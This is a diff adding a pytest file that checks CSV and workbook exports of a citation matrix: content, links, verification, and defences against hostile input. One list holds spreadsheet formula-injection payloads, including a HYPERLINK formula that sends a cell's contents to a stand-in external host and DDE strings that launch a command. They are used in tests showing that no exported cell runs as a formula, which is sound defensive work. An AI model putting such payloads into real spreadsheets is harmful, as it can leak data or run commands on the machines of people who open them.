@@ -1,0 +1,202 @@
+"""A matrix as CSV and as a workbook: what they contain, what they never run, and that `verify` reads them back."""
+
+import csv
+import io
+import json
+import zipfile
+from collections.abc import Callable
+
+import openpyxl
+import pytest
+from openpyxl.cell.rich_text import CellRichText
+
+from corpus.articles import FoundArticle, make_article
+from corpus.errors import CitationError
+from corpus.reading import Reading
+from index.building.build import build_index
+from index.opening import open_index
+from index.store import Index
+from index.types import Encoder
+from qa.citations.table_citations import guard_cell, read_table
+from qa.citations.verification import verify
+from qa.matrix.filling import fill_matrix
+from qa.matrix.matrix import Matrix
+from qa.matrix.spreadsheets import COLUMNS, MAX_CELL_LENGTH, write_csv, write_workbook
+
+QUESTIONS = [
+    "How many of the peacekeepers are women?",
+    "=How many of the peacekeepers are women?",
+    "What is the capital of Australia?",
+]
+
+
+@pytest.fixture(scope="module")
+def matrix(shipped: Index) -> Matrix:
+    return fill_matrix(QUESTIONS, index=shipped)
+
+
+@pytest.fixture
+def build_hostile(tmp_path, encoder: Encoder) -> Callable[..., Index]:
+    def build(text: str, title: str = "", source: str = "") -> Index:
+        found = [FoundArticle(make_article(text, title=title, source=source), "0")]
+        build_index(Reading(found), tmp_path / "index", encoder=encoder)
+        return open_index(tmp_path / "index")
+
+    return build
+
+
+def lines_of(table: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(table, newline="")))
+
+
+def statuses(content: bytes, name: str, index: Index) -> set[str]:
+    return {verify(citation, index).status for citation in read_table(content, name)}
+
+
+def test_the_lines_have_every_cell_with_its_sentence_and_place(matrix):
+    lines = lines_of(write_csv(matrix))
+    assert len(lines) == matrix.size
+    assert list(lines[0]) == list(COLUMNS)
+    stated = [line for line in lines if line["result"] == "stated"]
+    assert {line["answer"] for line in stated} >= {"seven"}
+    for line in lines:
+        cell = json.loads(line["citation"] or "null")
+        assert (line["result"] == "not stated") == (cell is None)
+        if cell:
+            article = matrix.index.articles[cell["article"]["id"]]
+            assert line["sentence"] == article.text[cell["start"] : cell["end"]]
+            assert line["answer"] in line["sentence"]
+            assert (
+                line["link"].endswith(f"#cite={article.id}:{cell['start']}-{cell['end']}")
+                or "#:~:text=" in line["link"]
+            )
+
+
+def test_both_tables_are_verified_as_they_are(matrix):
+    assert statuses(write_csv(matrix).encode(), "table.csv", matrix.index) == {"ok"}
+    assert statuses(write_workbook(matrix), "table.xlsx", matrix.index) == {"ok"}
+
+
+def test_a_changed_sentence_is_noticed_in_both_tables(matrix):
+    table = write_csv(matrix)
+    changed = table.replace("including seven women", "including eight women", 1)
+    assert changed != table
+    assert "changed" in statuses(changed.encode(), "table.csv", matrix.index)
+    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
+    shown = next(cell for cell in workbook["Cells"]["E"] if "seven women" in str(cell.value))
+    shown.value = shown.value.replace("seven", "eight")
+    saved = io.BytesIO()
+    workbook.save(saved)
+    assert "changed" in statuses(saved.getvalue(), "table.xlsx", matrix.index)
+
+
+def test_the_workbook_marks_the_answer_and_links_each_cell_to_its_place(matrix):
+    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)), rich_text=True)["Table"]
+    assert sheet.max_row == len(matrix.columns) + 1
+    assert sheet.max_column == len(matrix.questions) + 1
+    for row, column in enumerate(matrix.columns, start=2):
+        for place, question in enumerate(matrix.questions, start=2):
+            cell, shown = matrix.cell(question, column), sheet.cell(row, place)
+            quote = cell.quote(matrix.index)
+            if quote is None:
+                assert str(shown.value) == "not stated"
+                continue
+            assert str(shown.value).removeprefix("closest: ") == quote.text
+            target = shown.hyperlink.target or ""
+            assert f"{quote.start}-{quote.end}" in f"{target}#{shown.hyperlink.location}" or ":~:text=" in target
+            if quote.span:
+                assert isinstance(shown.value, CellRichText)
+                assert quote.span.text in {part.text for part in shown.value if hasattr(part, "font") and part.font.b}
+
+
+@pytest.mark.parametrize("by", ["articles", "all"])
+def test_questions_go_down_where_there_is_one_column(by, shipped):
+    matrix = fill_matrix(QUESTIONS, index=shipped, by=by)
+    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))["Table"]
+    down = [str(cell.value) for cell in sheet["A"][1:]]
+    assert (down == list(matrix.questions)) == (by == "all")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_runs_as_a_formula(formula, build_hostile):
+    text = f"{formula} is what the harbour of Aktau pays to the mayor of the town."
+    index = build_hostile(text, title=formula, source=formula)
+    matrix = fill_matrix([f"{formula} harbour of Aktau", "What does the harbour of Aktau pay?"], index=index)
+    assert {cell.state for cell in matrix.cells.values()} & {"stated", "closest"}
+    for line in csv.reader(io.StringIO(write_csv(matrix), newline="")):
+        assert not [cell for cell in line if cell[:1] in tuple("=+-@\t\r")]
+    content = write_workbook(matrix)
+    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
+        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        assert not [name for name in package.namelist() if b"<f>" in package.read(name)]
+    assert statuses(content, "table.xlsx", index) == statuses(write_csv(matrix).encode(), "t.csv", index) == {"ok"}
+
+
+def test_hidden_and_control_characters_are_shown_and_still_verified(build_hostile):
+    text = "The harbour of Aktau pays \u202e000,9\u202c tenge to the mayor\u200b of the town, \x07he said."
+    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text, title="a\u202eb\x07"))
+    table, content = write_csv(matrix), write_workbook(matrix)
+    assert "\u202e" not in table
+    assert "\x07" not in table
+    assert statuses(table.encode(), "t.csv", matrix.index) == statuses(content, "t.xlsx", matrix.index) == {"ok"}
+
+
+def test_a_sentence_longer_than_a_cell_is_cut_in_the_table_and_left_out_of_the_lines(build_hostile):
+    text = f"The harbour of Aktau pays {'very ' * 8000}much to the mayor of the town."
+    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text))
+    if not next(iter(matrix.cells.values())).article_id:
+        pytest.skip("the sentence is not quoted")
+    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
+    assert all(len(str(cell.value)) <= MAX_CELL_LENGTH for row in workbook["Table"].iter_rows() for cell in row)
+    assert statuses(write_csv(matrix).encode(), "t.csv", matrix.index) == {"ok"}
+
+
+def test_a_guarded_cell_begins_with_an_apostrophe():
+    assert guard_cell("=1") == "'=1"
+    assert guard_cell("1=1") == "1=1"
+
+
+GOOD = '"{""text"": ""a"", ""start"": 0, ""end"": 1, ""prefix"": """", ""suffix"": """", ""article"": {""id"": ""x""}}"'
+
+
+@pytest.mark.parametrize(
+    ("content", "told"),
+    [
+        (b"\xff\xfe", "not CSV"),
+        (b"a,b\n1,2\n", "no columns"),
+        (b"", "no columns"),
+        (b"sentence,citation\n", "no citation"),
+        (f"sentence,citation\na\n{GOOD}".encode(), "cells"),
+        (b'sentence,citation\na,""\n', "without its citation"),
+        (f'sentence,citation\n"",{GOOD}\n'.encode(), "shows no quotation"),
+        (b"sentence,citation\na,not json\n", "row 2"),
+        (b'sentence,citation\na,"[]"\n', "no citation"),
+        (b'sentence,citation\n"a', "not CSV"),
+    ],
+)
+def test_a_table_that_cannot_be_read_says_why(content, told):
+    with pytest.raises(CitationError, match=told):
+        read_table(content, "table.csv")
+
+
+def test_a_workbook_that_is_none_or_unpacks_to_too_much_is_refused(matrix, monkeypatch):
+    with pytest.raises(CitationError, match="not a workbook"):
+        read_table(b"PK\x03\x04 nothing", "table.xlsx")
+    package = io.BytesIO()
+    with zipfile.ZipFile(package, "w") as zipped:
+        zipped.writestr("a", "b")
+    with pytest.raises(CitationError, match="not a workbook"):
+        read_table(package.getvalue(), "table.xlsx")
+    monkeypatch.setattr("qa.citations.table_citations.MAX_UNPACKED", 1000)
+    with pytest.raises(CitationError, match="too large"):
+        read_table(write_workbook(matrix), "table.xlsx")
